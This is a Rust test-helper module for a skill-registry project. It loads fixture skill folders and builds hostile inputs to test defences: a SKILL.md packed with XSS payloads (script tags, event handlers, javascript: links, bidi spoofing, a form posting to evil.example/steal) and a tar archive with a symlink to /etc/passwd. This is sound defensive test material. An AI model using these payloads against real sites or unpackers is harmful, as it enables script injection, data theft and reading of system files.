//! Loads the fixture skills (`fixtures/skills` in the repository, real skills written
//! elsewhere) into [`FileSet`]s, applying the same leave-out rules as packing a folder.

use std::path::{Path, PathBuf};

use skillreg_core::bundle::{BundleFile, BundleLimits, FileSet, is_ignored_when_packing};

/// The names of the fixture skills.
pub const FIXTURE_SKILLS: [&str; 4] = [
    "brand-guidelines",
    "claude-api",
    "frontend-design",
    "internal-comms",
];

/// The folder holding the fixture skills: `fixtures/skills` from the workspace root.
pub fn fixtures_dir() -> PathBuf {
    let workspace = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    workspace.join("fixtures/skills")
}

/// The folder of one fixture skill.
pub fn fixture_path(name: &str) -> PathBuf {
    fixtures_dir().join(name)
}

/// Reads a folder into `(relative path, bytes, executable)` triples, leaving out what
/// packing leaves out, sorted by path.
///
/// # Panics
/// If the folder cannot be read (a broken test setup).
pub fn read_folder(root: &Path) -> Vec<(String, Vec<u8>, bool)> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let entries = std::fs::read_dir(&dir)
            .unwrap_or_else(|e| panic!("cannot read {}: {e}", dir.display()));
        for entry in entries {
            let entry = entry.unwrap_or_else(|e| panic!("cannot read {}: {e}", dir.display()));
            let path = entry.path();
            let relative = path
                .strip_prefix(root)
                .unwrap_or_else(|e| panic!("{} is outside {}: {e}", path.display(), root.display()))
                .to_string_lossy()
                .replace('\\', "/");
            if is_ignored_when_packing(&relative) {
                continue;
            }
            let meta = entry
                .metadata()
                .unwrap_or_else(|e| panic!("cannot stat {}: {e}", path.display()));
            if meta.is_dir() {
                stack.push(path);
            } else {
                let bytes = std::fs::read(&path)
                    .unwrap_or_else(|e| panic!("cannot read {}: {e}", path.display()));
                out.push((relative, bytes, is_executable(&meta)));
            }
        }
    }
    out.sort();
    out
}

#[cfg(unix)]
fn is_executable(meta: &std::fs::Metadata) -> bool {
    use std::os::unix::fs::PermissionsExt;
    meta.permissions().mode() & 0o111 != 0
}

#[cfg(not(unix))]
fn is_executable(_meta: &std::fs::Metadata) -> bool {
    false
}

/// Reads a folder into a validated [`FileSet`].
///
/// # Panics
/// If the folder cannot be read or is not a valid bundle.
pub fn load_folder(root: &Path) -> FileSet {
    let files = read_folder(root)
        .into_iter()
        .map(|(path, bytes, executable)| {
            let path = path
                .parse()
                .unwrap_or_else(|e| panic!("fixture path {path}: {e}"));
            BundleFile::new(path, bytes, executable)
        });
    FileSet::new(files, &BundleLimits::default())
        .unwrap_or_else(|e| panic!("{}: {e}", root.display()))
}

/// Loads one fixture skill.
///
/// # Panics
/// As [`load_folder`].
pub fn load_fixture(name: &str) -> FileSet {
    load_folder(&fixture_path(name))
}

/// A small valid file set: a SKILL.md for `name` with `description` and `extra`
/// frontmatter lines, plus the given files.
///
/// # Panics
/// If the result is not a valid bundle.
pub fn skill_files(name: &str, description: &str, extra: &str, files: &[(&str, &str)]) -> FileSet {
    let skill_md = format!(
        "---\nname: {name}\ndescription: {description}\n{extra}---\n\n# {name}\n\nInstructions.\n"
    );
    let mut all = vec![BundleFile::new(
        parse_path("SKILL.md"),
        skill_md.into_bytes(),
        false,
    )];
    for (path, contents) in files {
        all.push(BundleFile::new(
            parse_path(path),
            contents.as_bytes().to_vec(),
            false,
        ));
    }
    FileSet::new(all, &BundleLimits::default())
        .unwrap_or_else(|e| panic!("skill_files({name}): {e}"))
}

fn parse_path(path: &str) -> skillreg_core::bundle::BundlePath {
    path.parse()
        .unwrap_or_else(|e| panic!("bad path {path}: {e}"))
}

/// One raw tar header: `name`, entry `kind` (`0` file, `2` symlink), `size` bytes of data.
fn tar_header(name: &[u8], kind: u8, size: usize, link: &[u8]) -> [u8; 512] {
    let mut header = [0u8; 512];
    header[..name.len()].copy_from_slice(name);
    header[100..108].copy_from_slice(b"0000644\0");
    header[108..116].copy_from_slice(b"0000000\0");
    header[116..124].copy_from_slice(b"0000000\0");
    header[124..136].copy_from_slice(format!("{size:011o}\0").as_bytes());
    header[136..148].copy_from_slice(b"00000000000\0");
    header[156] = kind;
    header[157..157 + link.len()].copy_from_slice(link);
    header[257..263].copy_from_slice(b"ustar\0");
    header[263..265].copy_from_slice(b"00");
    header[148..156].copy_from_slice(b"        ");
    let sum: u32 = header.iter().map(|b| u32::from(*b)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    header
}

/// A SKILL.md (skill `hostile`) whose body tries everything a page must not let run or
/// load: script tags, event handlers, `javascript:` and `data:` links, SVG with script,
/// frames, forms, styles, remote images, bidi controls, and 5,000 lines of text. The
/// audit lets it publish (it runs nothing on the agent's side; its bidi controls warn).
pub fn hostile_skill_md() -> String {
    let mut text = String::from(
        "---\nname: hostile\ndescription: A page test skill\n---\n# Hostile\n\n\
         <script>alert('script')</script>\n\n\
         <img src=x onerror=alert('img')>\n\n\
         [a link](javascript:alert('link')) and [data](data:text/html;base64,PHNjcmlwdD4=)\n\n\
         <svg onload=alert('svg')><script>alert('svg script')</script></svg>\n\n\
         <iframe src=\"https://evil.example/frame\"></iframe>\n\n\
         <form action=\"https://evil.example/steal\"><input name=q></form>\n\n\
         <a href=\"https://evil.example\" onclick=\"alert('click')\">click</a>\n\n\
         <style>body { background: url(https://evil.example/bg.png) }</style>\n\n\
         ![pixel](https://evil.example/pixel.png)\n\n\
         [tricky](<javascript:alert('angle')>) [spaced]( javascript:alert('space') )\n\n\
         Reversed: \u{202E}txt.exe\u{202C} done.\n\n",
    );
    for line in 1..=5000 {
        text.push_str(&format!("line {line}\n"));
    }
    text
}

/// A gzipped tar holding a valid SKILL.md and then one hostile entry (written raw: the tar
/// crate refuses to write such names), so that only the hostile entry can be the reason it
/// is refused.
pub fn hostile_archive(name: &[u8], kind: u8) -> Vec<u8> {
    let skill_md = b"---\nname: pdf\ndescription: PDF tools\n---\n# pdf\n";
    let mut tar = tar_header(b"SKILL.md", b'0', skill_md.len(), b"").to_vec();
    tar.extend_from_slice(skill_md);
    tar.resize(tar.len().div_ceil(512) * 512, 0);
    let (data, link): (&[u8], &[u8]) = if kind == b'2' {
        (b"", b"/etc/passwd")
    } else {
        (b"echo pwned\n", b"")
    };
    tar.extend_from_slice(&tar_header(name, kind, data.len(), link));
    tar.extend_from_slice(data);
    tar.resize(tar.len().div_ceil(512) * 512, 0);
    tar.extend_from_slice(&[0u8; 1024]);
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut encoder, &tar).unwrap();
    encoder.finish().unwrap()
}
